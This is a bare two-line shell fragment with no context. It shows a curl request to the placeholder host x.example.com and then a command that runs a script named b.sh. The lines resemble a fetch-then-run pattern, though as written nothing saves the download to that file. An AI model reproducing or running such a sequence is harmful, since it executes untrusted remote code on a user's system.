curl https://x.example.com
sh b.sh
